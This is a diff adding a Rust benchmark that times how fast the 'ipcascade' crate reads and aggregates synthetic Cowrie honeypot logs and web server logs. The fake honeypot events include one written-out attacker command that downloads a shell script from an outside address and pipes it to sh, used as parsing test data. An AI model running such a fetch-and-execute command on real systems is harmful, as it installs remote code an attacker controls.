@@ -1,0 +1,116 @@
+//! How fast inputs are read: `cargo bench -p ipcascade --bench input`.
+
+#![expect(clippy::expect_used, reason = "a bench that fails should stop")]
+
+use std::hint::black_box;
+
+use criterion::{Criterion, Throughput, criterion_group, criterion_main};
+use ipcascade::input::{Aggregator, InputOptions, Item, Limits, RecordReader};
+
+const EVENTS: usize = 200_000;
+
+/// A log as Cowrie writes it: sessions of ten events, from 5,000 addresses.
+fn cowrie_log() -> String {
+    let mut log = String::new();
+    for event in 0..EVENTS {
+        let (session, step) = (event / 10, event % 10);
+        let address = session % 5000;
+        let (name, more) = match step {
+            0 => (
+                "session.connect",
+                r#""src_port":51234,"dst_ip":"10.0.0.2","dst_port":2222,"protocol":"ssh","#,
+            ),
+            1 => ("client.version", r#""version":"SSH-2.0-libssh2_1.4.3","#),
+            9 => ("session.closed", r#""duration":"12.3","#),
+            5..=8 => (
+                "command.input",
+                r#""input":"cd /tmp; wget http://198.51.100.7/x.sh -O - | sh; echo \"{\\\"src_ip\\\":1}\"","#,
+            ),
+            _ => (
+                "login.failed",
+                r#""username":"root","password":"hunter2 \" \\ {}","#,
+            ),
+        };
+        log.push_str(&format!(
+            r#"{{"eventid":"cowrie.{name}",{more}"message":"something that happened in the honeypot","sensor":"sensor-01","uuid":"2f5a1f30-7a41-11ee-b962-0242ac120002","timestamp":"2026-01-02T{:02}:{:02}:{:02}.{:06}Z","src_ip":"203.{}.{}.7","session":"{session:012x}"}}"#,
+            event / 3600 % 24,
+            event / 60 % 60,
+            event % 60,
+            event,
+            address / 250,
+            address % 250,
+        ));
+        log.push('\n');
+    }
+    log
+}
+
+/// A log of a web server.
+fn web_log() -> String {
+    let mut log = String::new();
+    for line in 0..EVENTS {
+        log.push_str(&format!(
+            r#"203.{}.{}.7 - - [10/Oct/2025:13:55:36 +0000] "GET /index.php?id={line} HTTP/1.1" 200 2326 "-" "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0 Safari/537.36""#,
+            line / 250 % 250,
+            line % 250,
+        ));
+        log.push('\n');
+    }
+    log
+}
+
+fn open(text: &'static str) -> RecordReader {
+    RecordReader::new("bench", Box::new(text.as_bytes()), &InputOptions::default())
+        .expect("a log is readable")
+}
+
+fn read(text: &'static str) -> usize {
+    let mut reader = open(text);
+    let mut addresses = 0;
+    while let Some(item) = reader.next().expect("memory does not fail") {
+        if let Item::Record(record) = item {
+            addresses += black_box(record.addresses).count();
+        }
+    }
+    addresses
+}
+
+fn aggregate(text: &'static str) -> usize {
+    let mut reader = open(text);
+    let mut aggregator = Aggregator::new(
+        Limits::default(),
+        "2026-01-01T00:00:00Z".parse().expect("a moment"),
+    );
+    let mut chunks = 0;
+    while let Some(item) = reader.next().expect("memory does not fail") {
+        let Item::Record(record) = item else { continue };
+        for address in record.addresses.clone() {
+            aggregator.add(address, record.moment, record.session.as_ref());
+            while let Some(chunk) = aggregator.pop() {
+                chunks += black_box(chunk).updates.len();
+            }
+        }
+    }
+    aggregator.finish();
+    chunks
+}
+
+fn benches(criterion: &mut Criterion) {
+    let mut group = criterion.benchmark_group("input");
+    group.sample_size(10);
+    let cowrie: &str = cowrie_log().leak();
+    for (name, text) in [("cowrie", cowrie), ("text", web_log().leak())] {
+        group.throughput(Throughput::Bytes(text.len() as u64));
+        group.bench_function(format!("read {name}"), |bencher| {
+            bencher.iter(|| assert!(read(text) >= EVENTS));
+        });
+    }
+    group.throughput(Throughput::Elements(EVENTS as u64));
+    group.bench_function("read and aggregate cowrie", |bencher| {
+        bencher.iter(|| aggregate(cowrie));
+    });
+    group.finish();
+}
+
+criterion_group!(input, benches);
+criterion_main!(input);
